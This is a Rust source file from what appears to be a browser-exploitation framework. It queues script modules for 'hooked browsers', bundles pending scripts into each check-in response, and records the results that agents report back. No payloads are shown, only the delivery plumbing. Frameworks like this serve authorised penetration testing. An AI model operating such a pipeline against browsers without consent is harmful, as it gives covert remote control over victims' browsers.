//! Delivery pipeline for queued instructions and raw executions.

use chrono::Utc;
use serde_json::Value;
use snare_core::{Error, Result};
use snare_storage::{
    BrowserStore, Command, CommandStore, Execution, ExecutionStore, ModuleStore,
};
use tracing::info;

use crate::autorun::wrapper::{self, WrapModule};

/// Maps an agent-reported status code to its display label.
pub fn status_label(status: i64) -> &'static str {
    match status {
        -1 => "ERROR",
        1 => "SUCCESS",
        _ => "UNKNOWN",
    }
}

/// Owns the instruction and raw-execution lifecycle for hooked browsers.
/// Session lookups go through the browser store so a result can never be
/// attributed to a session that does not own the instruction.
#[derive(Clone)]
pub struct CommandQueue {
    commands: CommandStore,
    executions: ExecutionStore,
    modules: ModuleStore,
    browsers: BrowserStore,
}

impl CommandQueue {
    pub fn new(
        commands: CommandStore,
        executions: ExecutionStore,
        modules: ModuleStore,
        browsers: BrowserStore,
    ) -> Self {
        Self { commands, executions, modules, browsers }
    }

    /// Queues a catalog module for delivery. The body is resolved at enqueue
    /// time so later catalog edits do not rewrite instructions in flight.
    pub fn enqueue_module(&self, browser_id: i64, module_name: &str) -> Result<Command> {
        let module = self
            .modules
            .by_name(module_name)?
            .ok_or_else(|| Error::NotFound(format!("module '{}'", module_name)))?;
        self.commands.enqueue(
            browser_id,
            Some(module.id),
            module_name,
            &module.body,
            Utc::now().timestamp(),
        )
    }

    /// Queues a pre-composed script (the autorun path).
    pub fn enqueue_script(&self, browser_id: i64, label: &str, script: &str) -> Result<Command> {
        self.commands.enqueue(browser_id, None, label, script, Utc::now().timestamp())
    }

    pub fn pending_for(&self, browser_id: i64) -> Result<Vec<Command>> {
        self.commands.pending_for(browser_id)
    }

    pub fn mark_sent(&self, ids: &[i64]) -> Result<usize> {
        self.commands.mark_sent(ids)
    }

    pub fn command_by_id(&self, id: i64) -> Result<Option<Command>> {
        self.commands.by_id(id)
    }

    /// Builds the script payload for one check-in response. A single pending
    /// instruction is delivered verbatim; a batch is bundled through the
    /// sequential wrapper with zero delays under a fresh token.
    pub fn compose_delivery(&self, pending: &[Command]) -> String {
        match pending {
            [] => String::new(),
            [single] => single.script.clone(),
            batch => {
                let mods: Vec<WrapModule> = batch
                    .iter()
                    .map(|c| WrapModule {
                        name: format!("{}_{}", wrapper::js_ident(&c.label), c.id),
                        body: c.script.clone(),
                    })
                    .collect();
                let order: Vec<usize> = (0..mods.len()).collect();
                let delay = vec![0u64; mods.len()];
                let token = uuid::Uuid::new_v4().simple().to_string();
                wrapper::sequential(&mods, &order, &delay, &token)
            }
        }
    }

    /// Persists an agent-reported result. The instruction must belong to the
    /// session that reports it; a foreign or unknown id is rejected the same
    /// way an unknown session is.
    pub fn record_result(
        &self,
        session_token: &str,
        command_id: i64,
        friendly_name: &str,
        payload: &Value,
        status: i64,
    ) -> Result<i64> {
        let browser = self
            .browsers
            .by_session(session_token)?
            .ok_or_else(|| Error::TypeMismatch("hooked_browser is nil".to_string()))?;
        let command = self
            .commands
            .by_id(command_id)?
            .filter(|c| c.browser_id == browser.id)
            .ok_or_else(|| Error::TypeMismatch("command is nil".to_string()))?;

        let id = self.commands.insert_result(
            command.id,
            browser.id,
            friendly_name,
            status,
            &payload.to_string(),
            Utc::now().timestamp(),
        )?;
        info!(
            command_id = command.id,
            browser_id = browser.id,
            status = status_label(status),
            "result recorded"
        );
        Ok(id)
    }

    pub fn queue_execution(&self, session_token: &str, script: &str) -> Result<Execution> {
        self.executions.queue(session_token, script, Utc::now().timestamp())
    }

    pub fn unsent_executions(&self, session_token: &str) -> Result<Vec<Execution>> {
        self.executions.unsent_for(session_token)
    }

    pub fn mark_executions_sent(&self, ids: &[i64]) -> Result<usize> {
        self.executions.mark_sent(ids)
    }
}
